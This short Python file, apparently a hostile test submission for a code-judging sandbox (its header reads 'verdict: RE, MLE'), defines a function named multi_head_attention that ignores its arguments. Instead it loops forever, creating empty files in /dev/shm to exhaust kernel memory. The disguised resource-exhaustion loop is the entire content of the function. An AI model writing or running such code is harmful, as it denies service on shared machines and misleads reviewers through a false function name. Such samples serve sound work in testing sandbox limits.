# verdict: RE, MLE
"""Makes empty files without end: they hold no bytes, only kernel memory."""

import os


def multi_head_attention(query, key, value, w_q, w_k, w_v, w_o, num_heads, mask=None):
    number = 0
    while True:
        number += 1
        os.close(os.open(f"/dev/shm/{number}", os.O_CREAT | os.O_WRONLY))
